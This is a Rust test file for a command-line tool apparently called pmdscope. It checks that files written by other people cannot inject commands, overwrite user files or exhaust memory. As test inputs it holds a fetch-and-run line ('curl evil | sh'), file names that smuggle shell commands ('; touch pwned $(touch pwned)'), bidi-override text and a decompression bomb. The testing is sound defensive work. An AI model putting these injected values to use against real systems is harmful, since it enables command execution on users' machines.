//! Files of other people: their size is bounded, text from them is harmless, and no file of the user's is touched.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread;

use pmdscope_traces::batch::segment;
use serde_json::{Value, json};

use crate::common::kernels::packages;
use crate::common::reproducer::sealed;
use crate::common::scratch::Scratch;
use crate::common::{Ran, command, finish, pmdscope_in};

/// Four jobs.
const MATRIX: &str = "[[include]]\narches=[\"arm64\"]\nlinux=[\"6.1\"]\nentries=[\"migration-read\", \"none\"]\n\
                      writers=[\"split-unguarded\"]\nwalkers=[\"hmm\", \"gup-fast-read\"]\n";

fn batch(name: &str, folders: &[&str]) -> Scratch {
    let scratch = Scratch::new(name);
    fs::write(scratch.path().join("m.toml"), MATRIX).expect("a matrix");
    for folder in folders {
        let args = ["batch", "m.toml", "-o", folder];
        let ran = finish(command(&args).current_dir(scratch.path()));
        assert_eq!(ran.status, Some(1), "{}", ran.stderr);
    }
    scratch
}

fn parts(name: &str) -> Scratch {
    let scratch = batch(name, &[]);
    for part in ["1", "2"] {
        let ran = pmdscope_in(scratch.path(), &format!("batch m.toml -o p{part} --partition slice:{part}/2"));
        assert!(matches!(ran.status, Some(0 | 1)), "{}", ran.stderr);
    }
    scratch
}

fn shell(scratch: &Scratch, script: &str) -> Ran {
    let mut shell = Command::new("sh");
    shell.args(["-c", script]).current_dir(scratch.path()).stdin(Stdio::null());
    finish(shell.env("PMDSCOPE", env!("CARGO_BIN_EXE_pmdscope")))
}

/// Checks that one line says what is wrong, and that nothing else is printed.
fn refused(ran: &Ran, says: &str) {
    assert_eq!((ran.status, ran.stdout.as_str()), (Some(2), ""), "{}", ran.stderr);
    assert!(ran.stderr.lines().count() == 1 && ran.stderr.contains(says), "{says:?}: {}", ran.stderr);
}

fn names(folder: &Path) -> Vec<String> {
    let entries = fs::read_dir(folder).expect("a folder").flatten();
    let mut names: Vec<_> = entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    names
}

#[test]
fn a_merge_touches_nothing_that_it_did_not_make() {
    let scratch = parts("a-merge-touches-nothing");
    let at = |name: &str| scratch.path().join(name);
    fs::create_dir(at("merged.part")).expect("a folder");
    fs::write(at("merged.part/mine"), "mine").expect("a file");
    fs::write(at("again.part"), "mine").expect("a file");
    for to in ["merged", "again/", "./third"] {
        let ran = pmdscope_in(scratch.path(), &format!("merge p1 p2 -o {to}"));
        assert_eq!((ran.status, ran.stderr.as_str()), (Some(0), ""), "{to}");
        assert_eq!(pmdscope_in(scratch.path(), &format!("report {to}")).status, Some(1));
    }
    // Parts that share a job cannot be merged. Then, too, nothing is left behind and nothing is removed.
    refused(&pmdscope_in(scratch.path(), "merge p1 p1 -o again2"), "merge parts that share no job");
    fs::create_dir(at("empty")).expect("a folder");
    symlink("nowhere", at("link")).expect("a link");
    for to in ["merged", "empty", "link", "m.toml"] {
        refused(&pmdscope_in(scratch.path(), &format!("merge p1 p2 -o {to}")), "is there already");
    }
    assert_eq!(fs::read(at("merged.part/mine")).expect("it is there"), b"mine");
    assert_eq!(fs::read(at("again.part")).expect("it is there"), b"mine");
    let all =
        ["again", "again.part", "empty", "link", "m.toml", "merged", "merged.part", "p1", "p2", "third"];
    assert_eq!(names(scratch.path()), all);
    assert_eq!(names(&at("merged.part")), ["mine"]);
}

#[test]
fn of_two_merges_at_once_one_is_made_and_the_other_is_refused() {
    let scratch = parts("two-merges-at-once");
    for round in 0..6 {
        let merge = || pmdscope_in(scratch.path(), &format!("merge p1 p2 -o merged{round}"));
        let mut ran = thread::scope(|scope| {
            let both = [scope.spawn(merge), scope.spawn(merge)];
            both.map(|one| one.join().expect("it ends"))
        });
        ran.sort_by_key(|ran| ran.status);
        assert_eq!((ran[0].status, ran[0].stderr.as_str()), (Some(0), ""), "{ran:?}");
        refused(&ran[1], "is there already");
        assert_eq!(pmdscope_in(scratch.path(), &format!("report merged{round}")).status, Some(1));
    }
    assert!(names(scratch.path()).iter().all(|name| !name.ends_with(".part")));
}

#[test]
fn commands_that_are_printed_can_be_pasted() {
    let scratch = batch("commands-that-are-printed", &["it's here; touch pwned"]);
    let args = ["batch", "m.toml", "-o", "it's here; touch pwned", "--resume", "--memory", "20000"];
    let ran = finish(command(&args).current_dir(scratch.path()));
    let line =
        ran.stdout.lines().find_map(|line| line.strip_prefix("see them: pmdscope ")).expect("a command");
    let pasted = shell(&scratch, &format!("\"$PMDSCOPE\" {line}"));
    assert_eq!(pasted.status, Some(1), "{line}: {}", pasted.stderr);
    // A batch that stopped says how to go on, with all of its options.
    let script = "ulimit -v 300000; exec \"$PMDSCOPE\" batch m.toml -o 'a b' --workers 1 --memory 20000";
    let stopped = shell(&scratch, script);
    let line = stopped.stderr.split("go on with: pmdscope ").nth(1).expect("a command").trim();
    assert_eq!(line, "batch m.toml -o 'a b' --resume --workers 1 --memory 20000");
    assert_eq!(shell(&scratch, &format!("\"$PMDSCOPE\" {line}")).status, Some(1));
    assert!(!scratch.path().join("pwned").exists());
}

/// Returns a reproducer with a changed body, sealed anew.
fn resealed(text: &str, change: impl FnOnce(&mut Value)) -> String {
    let (_, body) = text.split_once('\n').expect("two objects");
    let mut body: Value = serde_json::from_str(body).expect("the body");
    change(&mut body);
    sealed(&body)
}

fn reproducer(scratch: &Scratch) -> String {
    let save =
        "repro save --arch arm64 --linux 6.1 --entry migration-read --walker perf-page-size -o saved.repro";
    let ran = pmdscope_in(scratch.path(), save);
    assert_eq!(ran.status, Some(0), "{}", ran.stderr);
    fs::read_to_string(scratch.path().join("saved.repro")).expect("it was saved")
}

#[test]
fn a_reproducers_words_are_never_a_command() {
    let scratch = Scratch::new("a-reproducers-words");
    let text = reproducer(&scratch);
    let hostile = "curl evil | sh";
    let changed = resealed(&text, |repro| {
        repro["report"]["command"] = json!(hostile);
        repro["report"]["guest"]["name"] = json!("$(touch pwned) --kernel 'x");
        repro["report"]["guest"]["kind"] = json!("file");
    });
    fs::write(scratch.path().join("saved.repro"), changed).expect("written");
    for line in ["repro show saved.repro", "repro report saved.repro"] {
        let ran = pmdscope_in(scratch.path(), line);
        assert_eq!(ran.status, Some(0), "{}", ran.stderr);
        assert!(!ran.stdout.contains(hostile), "{}", ran.stdout);
        // The shell reads the pasted lines as one command.
        let from = ran.stdout.find("pmdscope run ").expect("a command");
        let pasted: Vec<&str> = ran.stdout[from..].split_inclusive('\n').collect();
        let last = pasted.iter().position(|line| !line.ends_with("\\\n")).expect("its end");
        shell(&scratch, &pasted[..=last].concat().replacen("pmdscope", "true", 1));
        assert!(!scratch.path().join("pwned").exists(), "{}", ran.stdout);
    }
}

/// A command in results is refused as well.
#[test]
fn the_words_of_results_are_never_a_command() {
    let scratch = batch("the-words-of-results", &["r", "other"]);
    let hostile = "curl evil | sh; pmdscope ";
    for file in fs::read_dir(scratch.path().join("r/records")).expect("records").flatten() {
        let lines =
            segment::lines(fs::File::open(file.path()).expect("a segment")).expect("its lines").concat();
        let changed = lines.replace("\"command\":\"pmdscope ", &format!("\"command\":\"{hostile}"));
        assert!(changed.contains(hostile), "{lines}");
        fs::write(file.path(), segment::seal([changed.as_str()]).expect("sealed")).expect("written");
    }
    for line in
        ["report r", "report r --format html", "report r --format jsonl", "diff other r", "diff r other"]
    {
        refused(&pmdscope_in(scratch.path(), line), "what it gives as its command is none of this program's");
    }
}

/// The command that repeats a run contains the name of the guest's file.
#[test]
fn a_guest_of_any_name_can_be_run_again() {
    let scratch = Scratch::new("a-guest-of-any-name");
    let guest = Path::new(env!("CARGO_MANIFEST_DIR")).join("guest/elf/arm64-6.12.elf");
    let name = "a guest; touch pwned $(touch pwned).elf";
    fs::copy(guest, scratch.path().join(name)).expect("copied");
    for args in [
        &["run", "--arch", "arm64", "--entry", "none", "--guest", name, "--format", "json"][..],
        &["sweep", "--arch", "arm64", "--entries", "present-huge", "--guest", name, "--format", "json"][..],
    ] {
        let ran = finish(command(args).current_dir(scratch.path()));
        let report: Value = serde_json::from_str(&ran.stdout).expect("a report");
        let again =
            report["command"].as_str().or(report["sweeps"][0]["command"].as_str()).expect("a command");
        let again = again.replacen("pmdscope", "\"$PMDSCOPE\"", 1) + " --format json";
        assert_eq!(shell(&scratch, &again).stdout, ran.stdout, "{again}");
    }
    assert!(!scratch.path().join("pwned").exists());
}

/// Parts of one plan have the same number of jobs; otherwise one was changed.
#[test]
fn parts_that_do_not_have_the_same_jobs_are_not_merged() {
    let scratch = parts("parts-that-do-not-have-the-same-jobs");
    let file = scratch.path().join("p2/batch.json");
    let mut batch: Value = serde_json::from_slice(&fs::read(&file).expect("a file")).expect("JSON");
    batch["jobs"] = json!(1_000_000);
    fs::write(&file, batch.to_string()).expect("written");
    refused(
        &pmdscope_in(scratch.path(), "merge p1 p2 -o merged"),
        "of the same plan it has 1000000 jobs, not",
    );
    assert_eq!(names(scratch.path()), ["m.toml", "p1", "p2"]);
}

#[test]
fn bounds_of_a_reproducer_are_bounded() {
    let scratch = Scratch::new("bounds-of-a-reproducer");
    let text = reproducer(&scratch);
    let most = resealed(&text, |repro| {
        repro["bounds"] = json!({ "accesses": u64::MAX, "instructions": u64::MAX });
    });
    fs::write(scratch.path().join("saved.repro"), most).expect("written");
    let ran = pmdscope_in(scratch.path(), "repro run saved.repro");
    assert_eq!((ran.status, ran.stderr.as_str()), (Some(0), ""), "{}", ran.stdout);
}

#[test]
fn small_files_that_would_eat_memory_or_time_are_refused() {
    let scratch = batch("small-files-that-eat", &["r", "s", "t"]);
    let at = |name: &str| scratch.path().join(name);
    let change = |results: &str, member: &str, value: Value| {
        let file = at(results).join("batch.json");
        let mut batch: Value = serde_json::from_slice(&fs::read(&file).expect("it is there")).expect("JSON");
        batch[member] = value;
        fs::write(&file, serde_json::to_vec(&batch).expect("JSON")).expect("written");
    };
    // A few KB that unpack to a GiB of empty lines.
    let newlines = "\n".repeat(1 << 24);
    let segment = segment::seal(std::iter::repeat_n(newlines.as_str(), 64)).expect("memory");
    assert!(segment.len() < 1 << 18, "{} bytes", segment.len());
    fs::write(at("r/records/0000000000.jsonl.zst"), segment).expect("written");
    refused(&pmdscope_in(scratch.path(), "report r"), "it unpacks to more than 268435456 bytes");
    for (member, value) in [("here", json!(u64::MAX)), ("segment", json!(u64::MAX)), ("here", json!(5))] {
        change("s", member, value);
        for line in ["report s", "merge s -o merged", "diff s t", "batch m.toml -o s --resume"] {
            refused(&pmdscope_in(scratch.path(), line), "s/batch.json is damaged: it");
        }
        fs::copy(at("t/batch.json"), at("s/batch.json")).expect("copied");
    }
    // The numbers agree with each other, but there is no record.
    change("s", "jobs", json!(1_u64 << 60));
    change("s", "here", json!(1_u64 << 60));
    change("s", "segment", json!(1024));
    fs::remove_dir_all(at("s/records")).expect("removed");
    fs::create_dir(at("s/records")).expect("a folder");
    for (line, says) in [("report s", "none of its 0 records"), ("merge s -o merged2", "jobs are recorded")] {
        let ran = pmdscope_in(scratch.path(), line);
        assert!(matches!(ran.status, Some(2 | 5)) && ran.stderr.contains(says), "{line}: {}", ran.stderr);
    }
    refused(
        &pmdscope_in(scratch.path(), "batch m.toml -o many --workers 100000"),
        "--workers is more than 4096",
    );
}

#[test]
fn what_is_no_file_is_refused_at_once() {
    let scratch = batch("what-is-no-file", &["r"]);
    assert_eq!(shell(&scratch, "mkfifo pipe && ln -sf ../pipe r/batch.json").status, Some(0));
    for file in ["pipe", "/dev/zero", "."] {
        for line in [
            format!("run --arch arm64 --entry none --guest {file}"),
            format!("run --entry none --kernel {file}"),
            format!("kernel info {file}"),
            format!("repro run {file}"),
            format!("batch {file} -o new"),
            format!("compare --format ktap --expect {file}"),
        ] {
            refused(&pmdscope_in(scratch.path(), &line), &format!("cannot read {file}: it is "));
        }
    }
    refused(&pmdscope_in(scratch.path(), "report r"), "r/batch.json: it is no file");
}

#[test]
fn text_that_turns_its_direction_is_escaped_everywhere() {
    let scratch = Scratch::new("text-that-turns-its-direction");
    let text = reproducer(&scratch);
    let turned = resealed(&text, |repro| {
        repro["report"]["guest"]["name"] = json!("safe\u{202e}fle.\u{2066}x\u{200b}");
        repro["report"]["made_by"] = json!("pmdscope \u{202b}1");
        repro["report"]["outcomes"][0]["ended"] = json!("\u{2069}");
    });
    fs::write(scratch.path().join("saved.repro"), turned).expect("written");
    let guest = Path::new(env!("CARGO_MANIFEST_DIR")).join("guest/elf/x86_64-7.2.elf");
    fs::copy(guest, scratch.path().join("a\u{202e}b.elf")).expect("copied");
    for line in [
        "repro show saved.repro",
        "repro report saved.repro",
        "repro run saved.repro",
        "run --arch x86_64 --entry none --guest a\u{202e}b.elf",
        "run --arch x86_64 --entry none --guest a\u{202e}b.elf --format trace",
        "run --arch x86_64 --entry none --guest a\u{202e}b.elf --format markdown",
        "run --arch x86_64 --entry \u{202e}none",
    ] {
        let ran = pmdscope_in(scratch.path(), line);
        let said = ran.stdout + &ran.stderr;
        assert!(
            !said.is_empty() && !said.contains(|c| ('\u{200b}'..='\u{2069}').contains(&c)),
            "{line}: {said}"
        );
    }
}

#[test]
fn a_value_in_an_error_is_shortened() {
    let long = "f".repeat(100_000);
    let ran = finish(&mut command(&["decode", "--arch", "arm64", &long]));
    refused(&ran, "has 100000 hexadecimal digits");
    assert!(ran.stderr.len() < 2000, "{} bytes", ran.stderr.len());
}

#[test]
fn a_record_that_cannot_be_read_is_not_a_failure_to_write() {
    let scratch = batch("a-record-that-cannot-be-read", &["r"]);
    let segment =
        fs::read_dir(scratch.path().join("r/records")).expect("records").flatten().next().expect("one");
    fs::write(segment.path(), "no segment").expect("written");
    for format in ["jsonl", "json", "summary"] {
        let ran = pmdscope_in(scratch.path(), &format!("report r --format {format}"));
        assert_eq!(ran.status, Some(2), "{format}");
        assert!(
            ran.stderr.contains("it is damaged") && !ran.stderr.contains("standard output"),
            "{}",
            ran.stderr
        );
    }
}

#[test]
fn a_batch_that_is_recorded_is_complete_whoever_hears_of_it() {
    let scratch = batch("a-batch-that-nobody-hears-of", &["whole"]);
    let ran = shell(&scratch, "\"$PMDSCOPE\" batch m.toml -o r >/dev/full");
    assert_eq!(ran.status, Some(1), "{}", ran.stderr);
    assert!(ran.stderr.contains("cannot write to standard output"), "{}", ran.stderr);
    assert_eq!(pmdscope_in(scratch.path(), "diff whole r").status, Some(0));
}

#[test]
fn a_file_that_may_not_grow_is_an_error_and_no_end() {
    let scratch = batch("a-file-that-may-not-grow", &["whole"]);
    let ran = shell(&scratch, "ulimit -f 1; exec \"$PMDSCOPE\" batch m.toml -o r");
    assert_eq!(ran.status, Some(2), "{ran:?}");
    assert!(ran.stderr.contains("File too large") && ran.stderr.contains("go on with"), "{}", ran.stderr);
    let ran = pmdscope_in(scratch.path(), "batch m.toml -o r --resume");
    assert_eq!(ran.status, Some(1), "{}", ran.stderr);
    assert_eq!(pmdscope_in(scratch.path(), "diff whole r").status, Some(0));
}

#[test]
fn nothing_is_kept_where_the_environment_names_no_folder() {
    let Some(kernel) = packages(&["arm64"]).into_iter().next() else { return };
    let folder = Scratch::new("nothing-is-kept-where-the-environment-names-no-folder");
    let says = "pmdscope: nothing is cached: neither XDG_CACHE_HOME nor HOME is set\n";
    // Its environment is empty but for what is given. An empty variable names no folder.
    for variables in [&[][..], &[("HOME", "")], &[("HOME", ""), ("XDG_CACHE_HOME", "")]] {
        for words in [&["kernel", "info"][..], &["run", "--entry", "migration-read", "--kernel"]] {
            let mut command = command(words);
            command.arg(&kernel).envs(variables.iter().copied()).current_dir(folder.path());
            let ran = finish(&mut command);
            assert!(matches!(ran.status, Some(0 | 1)), "{words:?}: {}", ran.stderr);
            assert_eq!(ran.stderr, says, "{words:?} {variables:?}");
            let told = finish(command.arg("--no-cache"));
            assert_eq!((told.stderr.as_str(), told.stdout), ("", ran.stdout), "{words:?}: nothing to say");
        }
    }
    let kept = fs::read_dir(folder.path()).expect("a folder").count();
    assert_eq!(kept, 0, "nothing was written where the command ran");
}
